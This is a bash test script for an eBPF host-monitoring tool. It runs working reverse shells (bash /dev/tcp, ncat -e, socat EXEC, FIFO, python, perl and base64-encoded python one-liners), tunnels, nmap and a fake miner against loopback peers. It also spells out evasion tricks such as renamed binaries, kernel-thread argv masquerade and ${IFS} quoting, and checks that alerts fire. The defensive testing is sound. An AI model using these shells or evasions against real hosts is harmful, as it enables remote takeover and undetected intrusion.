#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
#
# The detection catalogue on real behaviour, part 1: reverse shells, network tools, tunnels,
# scanners and a miner, all against loopback peers (issue 10).  One `edgesec run --capture
# ebpf` watches the host; each case runs the real thing (bash's /dev/tcp, ncat -e, socat
# EXEC:, a FIFO shell, python and perl one-liners, ncat -l, socat TCP-LISTEN, ssh -L, microsocks,
# nmap against 127.0.0.1, a program named like a miner talking stratum to a loopback "pool"),
# then waits (bounded) for the Alert of the rule and checks that its evidence names that
# process (pid, executable, command line, peer address).  Evasions the rules must still catch
# (renamed and padded argv, exec -a, a shell behind a script name, nc behind a symlink named
# otherwise, busybox nc, python sockets, quoting in bash -c strings) are cases too; the gaps are
# in docs/detection.md.
#
# Environment (set by CTest): EDGESEC, SOURCE_DIR.  KEEP=1 keeps the work directory,
# DT_VERBOSE=1 writes the ProcessCreate events too.
set -uo pipefail
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/detect-env.sh"

need_root "(the eBPF capture loads BPF programs)"
need_tools "apt-get install -y jq ncat socat nmap openssh-client microsocks busybox-static iproute2" \
	jq ncat socat nmap ssh microsocks ss perl /usr/bin/python3
need_edgesec
busybox=$(command -v busybox) || skip "busybox is not installed (Debian package busybox-static)"

dt_init shells
bin=$DT_TMP/bin
mkdir -p "$bin"
pids=()
dt_cleanup_hook() {
	local p
	for p in "${pids[@]}"; do
		kill "$p" 2>/dev/null
	done
	dt_stop_peer
}

# ListeningPorts every 2 s for listening-port-new (the first snapshot is its baseline).
DT_TOP='"snapshotFrequency": "PT2S"' dt_start_agent '"loginSource": "utmp", "dockerSocket": ""'

# ---- bash /dev/tcp: the redirection itself, and the shell whose stdio is the socket ----
port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-devtcp\nexit\n'
dt_mark
bash -c "bash -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--argjson pid "$pid" --arg port "$port")
dt_expect reverse-shell-dev-tcp "bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'" \
	'.ProcessId == $pid and (.CommandLine | contains("/dev/tcp/127.0.0.1/" + $port))
	 and .Evidence[0].Name == "ProcessCreate" and .Evidence[0].Fields.ProcessId == $pid'
dt_expect reverse-shell-socket-stdio "bash -i with its stdio on the /dev/tcp socket" \
	'.Evidence[0].Fields.ParentProcessId == $pid and .RemoteAddress == "127.0.0.1"
	 and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port
	 and .Evidence[0].Fields["ExtraDetails.Stdin"] == "socket"'
dt_peer_got "$port" dt-ok-devtcp "the /dev/tcp shell did not run the peer's command"
dt_stop_peer

# ---- ncat -e: netcat running a shell for the connection ----
port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-ncat\nexit\n'
dt_mark
timeout 10 ncat 127.0.0.1 "$port" -e /bin/sh &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--arg port "$port")
dt_expect reverse-shell-netcat-exec "ncat 127.0.0.1 PORT -e /bin/sh" \
	'.Executable == "/usr/bin/ncat" and (.CommandLine | endswith($port + " -e /bin/sh"))
	 and .Evidence[0].Fields.ParentProcessId > 0'
dt_peer_got "$port" dt-ok-ncat "ncat -e did not run the peer's command"
dt_stop_peer

# ---- socat EXEC: with nofork: an interpreter whose stdio is the TCP socket ----
port=$(dt_free_port)
dt_peer "$port" $'print("dt-ok-" + "py")\nexit()\n'
dt_mark
timeout 10 socat "TCP:127.0.0.1:$port" "EXEC:/usr/bin/python3 -i,nofork" 2>/dev/null &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--arg port "$port")
dt_expect reverse-shell-netcat-exec "socat TCP:127.0.0.1:PORT EXEC:'python3 -i',nofork" \
	'.Executable == "/usr/bin/socat" and (.CommandLine | contains("EXEC:/usr/bin/python3"))'
dt_expect reverse-shell-interpreter-socket "python3 -i with the socat socket as stdio" \
	'.Executable == "/usr/bin/python3" and .RemoteAddress == "127.0.0.1"
	 and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
dt_peer_got "$port" dt-ok-py "python3 over socat did not run the peer's code"
dt_stop_peer

# ---- a FIFO reverse shell (nc without -e) ----
port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-fifo\nexit\n'
fifo=$DT_TMP/f
dt_mark
timeout 10 sh -c "rm -f $fifo; mkfifo $fifo; cat $fifo | /bin/sh -i 2>&1 | nc 127.0.0.1 $port > $fifo" \
	2>/dev/null &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--arg fifo "$fifo")
dt_expect reverse-shell-fifo "sh -c 'mkfifo F; cat F | /bin/sh -i 2>&1 | nc 127.0.0.1 PORT > F'" \
	'.Executable == "/usr/bin/sh" and (.CommandLine | contains("mkfifo " + $fifo))'
dt_peer_got "$port" dt-ok-fifo "the FIFO shell did not run the peer's command"
dt_stop_peer

# ---- python and perl one-liners: socket + dup2 + shell ----
port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-pyrs\nexit\n'
dt_mark
timeout 10 /usr/bin/python3 -c "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',$port));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])" &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--argjson pid "$pid" --arg port "$port")
dt_expect reverse-shell-interpreter "python3 -c 'socket ... dup2 ... subprocess.call([/bin/sh])'" \
	'.Evidence[0].Fields.ParentProcessId == $pid and .Executable == "/usr/bin/python3"'
dt_expect reverse-shell-socket-stdio "/bin/sh -i under that python, stdio on its socket" \
	'.Evidence[0].Fields["ExtraDetails.ParentExecutable"] == "/usr/bin/python3"
	 and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
dt_peer_got "$port" dt-ok-pyrs "the python reverse shell did not run"
dt_stop_peer

port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-perl\nexit\n'
dt_mark
timeout 10 perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));connect(S,sockaddr_in($port,inet_aton('127.0.0.1')));open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');" &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--argjson pid "$pid" --arg port "$port")
dt_expect reverse-shell-interpreter "perl -e 'socket ... open(STDIN,>&S) ... exec(/bin/sh -i)'" \
	'.Evidence[0].Fields.ParentProcessId == $pid and .Executable == "/usr/bin/perl"'
dt_expect reverse-shell-socket-stdio "the /bin/sh -i that perl became, stdio on its socket" \
	'.Evidence[0].Fields.ParentProcessId == $pid and .Executable == "/bin/sh"
	 and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
dt_peer_got "$port" dt-ok-perl "the perl reverse shell did not run"
dt_stop_peer

# ---- listeners and tunnels ----
port=$(dt_free_port)
dt_mark
ncat -lk 127.0.0.1 "$port" </dev/null >/dev/null 2>&1 &
pid=$!
pids+=("$pid")
DT_JQ_ARGS=(--argjson pid "$pid")
dt_expect netcat-listener "ncat -lk 127.0.0.1 PORT" '.ProcessId == $pid'
dt_wait_listen "$port"
kill "$pid"
wait "$pid" 2>/dev/null

port=$(dt_free_port)
port2=$(dt_free_port)
dt_mark
socat "TCP-LISTEN:$port,bind=127.0.0.1,reuseaddr,fork" "TCP:127.0.0.1:$port2" &
pid=$!
pids+=("$pid")
DT_JQ_ARGS=(--argjson pid "$pid")
dt_expect tunnel-socat-listener "socat TCP-LISTEN:PORT,bind=127.0.0.1,fork TCP:127.0.0.1:PORT2" \
	'.ProcessId == $pid and .Executable == "/usr/bin/socat"'
kill "$pid"
wait "$pid" 2>/dev/null

closed=$(dt_free_port)
dt_mark
ssh -N -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no \
	-o UserKnownHostsFile=/dev/null -L "127.0.0.1:$(dt_free_port):127.0.0.1:22" \
	-p "$closed" 127.0.0.1 2>/dev/null &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--argjson pid "$pid")
dt_expect tunnel-ssh-forward "ssh -N -L 127.0.0.1:A:127.0.0.1:22 (a closed port: the exec is the behaviour)" \
	'.ProcessId == $pid and .Executable == "/usr/bin/ssh"'

port=$(dt_free_port)
dt_mark
microsocks -i 127.0.0.1 -p "$port" >/dev/null 2>&1 &
pid=$!
pids+=("$pid")
DT_JQ_ARGS=(--argjson pid "$pid")
dt_expect tunnel-tool "microsocks -i 127.0.0.1 -p PORT (a SOCKS proxy)" \
	'.ProcessId == $pid and .Executable == "/usr/bin/microsocks"'

# listening-port-new: the microsocks port is new since the baseline snapshot (the first
# ListeningPorts after start): seen at listen() (ListenerCreate, with its pid), or by the next
# snapshot when that one ran before the kernel's record was read (tens of ms).
DT_JQ_ARGS=(--arg port "$port" --argjson pid "$pid")
dt_expect listening-port-new "the microsocks listener at listen() or the next ListeningPorts" \
	'.Evidence[0].Fields.LocalPort == $port and .Evidence[0].Fields.LocalAddress == "127.0.0.1"
	 and ((.Evidence[0].Name == "ListenerCreate" and .Evidence[0].Fields.ProcessId == $pid)
	      or .Evidence[0].Name == "ListeningPorts")'
kill "$pid"
wait "$pid" 2>/dev/null

port=$(dt_free_port)
dt_peer "$port" ""
dt_mark
nmap -sT -Pn -n -p "$port" 127.0.0.1 >"$DT_TMP/nmap.txt" 2>&1 &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--argjson pid "$pid")
dt_expect attack-tool "nmap -sT -Pn -p PORT 127.0.0.1" '.ProcessId == $pid and .Executable == "/usr/bin/nmap"'
grep -q "$port/tcp open" "$DT_TMP/nmap.txt" || fail "nmap did not see the open port: $(cat "$DT_TMP/nmap.txt")"
dt_stop_peer

# ---- a miner: a program named xmrig with a stratum URL, talking to a loopback "pool" ----
stratum=
for p in 3333 3334 3335 3336 14444; do
	ss -Hltn "sport = :$p" | grep -q . && continue
	stratum=$p
	break
done
[ -n "$stratum" ] || fail "every stratum port of the list is in use here"
dt_peer "$stratum" ""
cat >"$bin/xmrig" <<'PY'
#!/usr/bin/python3
import json, socket, sys
url = sys.argv[sys.argv.index("-o") + 1]
host, port = url.split("://")[1].rsplit(":", 1)
s = socket.create_connection((host, int(port)))
s.sendall(json.dumps({"id": 1, "method": "login", "params": {"login": "x", "pass": "x"}}).encode() + b"\n")
s.close()
PY
chmod +x "$bin/xmrig"
dt_mark
"$bin/xmrig" --donate-level 1 -o "stratum+tcp://127.0.0.1:$stratum" -u x &
pid=$!
wait "$pid" || fail "the fake miner failed"
DT_JQ_ARGS=(--argjson pid "$pid" --arg bin "$bin/xmrig" --arg port "$stratum")
dt_expect miner-process "a program named xmrig (a python script)" \
	'.ProcessId == $pid and .Executable == $bin'
dt_expect miner-arguments "its -o stratum+tcp://127.0.0.1:PORT" \
	'.ProcessId == $pid and (.CommandLine | contains("stratum+tcp://"))'
dt_expect miner-stratum-connection "its TCP connection to 127.0.0.1:$stratum" \
	'.ProcessId == $pid and .RemoteAddress == "127.0.0.1" and .Evidence[0].Name == "ConnectionCreate"
	 and .Evidence[0].Fields.RemotePort == $port and .Evidence[0].Fields.Direction == "Out"'
dt_stop_peer

# ---- evasions that must still be caught ----
# A copy of ncat under another name: no rule knows the name, its shell talks to it through
# pipes; the connection followed by a shell is what gives it away.
cp /usr/bin/ncat "$bin/updater"
port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-renamed\nexit\n'
dt_mark
timeout 10 "$bin/updater" 127.0.0.1 "$port" -e /bin/sh &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--argjson pid "$pid" --arg bin "$bin/updater" --arg port "$port")
dt_expect reverse-shell-connect-shell "evasion: a copy of ncat named updater, -e /bin/sh" \
	'.Evidence[0].Name == "ConnectionCreate" and .Evidence[0].Fields.Executable == $bin
	 and .Evidence[0].Fields.RemotePort == $port and .Evidence[1].Name == "ProcessCreate"
	 and .Evidence[1].Fields.ParentProcessId == .Evidence[0].Fields.ProcessId'
dt_peer_got "$port" dt-ok-renamed "the renamed ncat"
dt_stop_peer

# A symlink with an innocent name to nc (itself a link, to ncat through /etc/alternatives):
# Executable and argv[0] say "innocent"; the file the kernel runs, with every link resolved
# (ExtraDetails.ExecutablePath), is ncat, so the netcat rules still apply.
ln -s /usr/bin/nc "$bin/innocent"
real=$(readlink -f /usr/bin/nc)
port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-symlink\nexit\n'
dt_mark
timeout 10 "$bin/innocent" 127.0.0.1 "$port" -e /bin/sh &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--argjson pid "$pid" --arg bin "$bin/innocent" --arg real "$real")
dt_expect reverse-shell-netcat-exec "evasion: a symlink named innocent to nc, -e /bin/sh" \
	'.Evidence[0].Fields.ParentProcessId == $pid and .Executable == $bin
	 and .Evidence[0].Fields["ExtraDetails.ExecutablePath"] == $real'
dt_peer_got "$port" dt-ok-symlink "the symlinked nc"
dt_stop_peer

port=$(dt_free_port)
dt_peer "$port" $'exit\n'
dt_mark
timeout 10 ncat --exe /bin/sh 127.0.0.1 "$port" &
wait $!
DT_JQ_ARGS=(--arg port "$port")
dt_expect reverse-shell-netcat-exec "evasion: ncat --exe (an abbreviation of --exec)" \
	'(.CommandLine | contains("--exe /bin/sh 127.0.0.1 " + $port))'
dt_stop_peer

port=$(dt_free_port)
dt_peer "$port" $'exit\n'
pad=$(printf -- '-v %.0s' $(seq 600))
dt_mark
# shellcheck disable=SC2086 # the padding is 600 words on purpose
timeout 10 ncat $pad 127.0.0.1 "$port" -e /bin/sh 2>/dev/null &
wait $!
DT_JQ_ARGS=(--arg port "$port")
dt_expect reverse-shell-netcat-exec "evasion: ncat with 600 padding arguments before -e" \
	'(.CommandLine | endswith("127.0.0.1 " + $port + " -e /bin/sh"))'
dt_stop_peer

port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-busybox\nexit\n'
dt_mark
timeout 10 "$busybox" nc 127.0.0.1 "$port" -e /bin/sh &
pid=$!
wait "$pid"
DT_JQ_ARGS=(--arg port "$port")
dt_expect reverse-shell-netcat-exec "evasion: busybox nc 127.0.0.1 PORT -e /bin/sh" \
	'.Executable == "/usr/bin/busybox" and (.CommandLine | endswith("busybox nc 127.0.0.1 " + $port + " -e /bin/sh"))'
dt_expect reverse-shell-socket-stdio "the /bin/sh busybox nc runs on its socket" \
	'.Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
dt_peer_got "$port" dt-ok-busybox "busybox nc -e"
dt_stop_peer

port=$(dt_free_port)
dt_mark
timeout 10 "$busybox" nc -lp "$port" </dev/null >/dev/null 2>&1 &
pid=$!
pids+=("$pid")
DT_JQ_ARGS=(--arg port "$port")
dt_expect netcat-listener "evasion: busybox nc -lp PORT" '(.CommandLine | endswith("busybox nc -lp " + $port))'
kill "$pid" 2>/dev/null
wait "$pid" 2>/dev/null

# A copy of bash named kworker, and quotes in the /dev/tcp path of its -c string.
cp "$(command -v bash)" "$bin/kworker"
port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-kworker\nexit\n'
dt_mark
timeout 10 "$bin/kworker" -c "$bin/kworker --norc -i >& /dev/tc\"p\"/127.0.0.1/$port 0>&1" 2>/dev/null &
wait $!
DT_JQ_ARGS=(--arg bin "$bin/kworker" --arg port "$port")
dt_expect reverse-shell-dev-tcp "evasion: quotes in the path: kworker -c '... >& /dev/tc\"p\"/...'" \
	'.Executable == $bin and (.CommandLine | contains("/dev/tc\"p\"/127.0.0.1/" + $port))'
dt_expect reverse-shell-socket-stdio "evasion: a copy of bash named kworker, stdio on the socket" \
	'.Executable == $bin and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
dt_peer_got "$port" dt-ok-kworker "the renamed bash"
dt_stop_peer

# exec -a: argv[0] made to look like a kernel thread.
port=$(dt_free_port)
dt_peer "$port" $'exit\n'
dt_mark
timeout 10 bash -c "exec -a '[kworker/0:1]' bash --norc -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2>/dev/null &
wait $!
DT_JQ_ARGS=(--arg port "$port")
dt_expect reverse-shell-socket-stdio "evasion: exec -a '[kworker/0:1]' bash -i on the socket" \
	'.Evidence[0].Fields["ExtraDetails.Argv0"] == "[kworker/0:1]"
	 and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
dt_expect masquerade-kernel-thread "exec -a '[kworker/0:1]' bash" \
	'.Evidence[0].Fields["ExtraDetails.Argv0"] == "[kworker/0:1]"'
dt_stop_peer

# A script whose name hides its interpreter, started on the socket (socat EXEC:,nofork).
printf '#!/bin/sh\nwhile read -r l; do eval "$l"; done\n' >"$bin/sysupdate"
chmod +x "$bin/sysupdate"
port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-script\nexit\n'
dt_mark
timeout 10 socat "TCP:127.0.0.1:$port" "EXEC:$bin/sysupdate,nofork" &
wait $!
DT_JQ_ARGS=(--arg bin "$bin/sysupdate" --arg port "$port")
dt_expect reverse-shell-socket-stdio "evasion: a #!/bin/sh script named sysupdate on the socket" \
	'.Executable == $bin and .Evidence[0].Fields["ExtraDetails.StdioRemote"] == "127.0.0.1:" + $port'
dt_peer_got "$port" dt-ok-script "the sysupdate script"
dt_stop_peer

# python whose code is base64 (no keyword in the command line) and a shell on a pty.
port=$(dt_free_port)
dt_peer "$port" $'echo dt-ok-pty\nexit\n'
code=$(printf '%s' "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',$port));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" | base64 -w0)
dt_mark
timeout 10 /usr/bin/python3 -c "import base64;exec(base64.b64decode('$code'))" &
wait $!
DT_JQ_ARGS=(--arg port "$port")
dt_expect reverse-shell-connect-shell "evasion: python3 -c base64 code, pty.spawn(/bin/sh)" \
	'.Evidence[0].Fields.Executable == "/usr/bin/python3" and .Evidence[0].Fields.RemotePort == $port
	 and .Evidence[1].Fields["ExtraDetails.Stdin"] == "tty"'
dt_peer_got "$port" dt-ok-pty "the pty shell"
dt_stop_peer

# The FIFO shell with a full path and ${IFS} instead of a space after nc.
port=$(dt_free_port)
dt_peer "$port" $'exit\n'
dt_mark
timeout 10 sh -c "rm -f $fifo;mkfifo $fifo;cat $fifo|/bin/sh -i 2>&1|/usr/bin/nc\${IFS}127.0.0.1 $port >$fifo" 2>/dev/null &
wait $!
DT_JQ_ARGS=(--arg port "$port")
dt_expect reverse-shell-fifo "evasion: ...|/usr/bin/nc\${IFS}127.0.0.1 PORT >F" \
	'.Executable == "/usr/bin/sh" and (.CommandLine | contains("nc${IFS}127.0.0.1 " + $port))'
dt_stop_peer

dt_table
echo "PASS: reverse shells, network tools, tunnels, nmap and a miner raise their alerts with the right evidence"
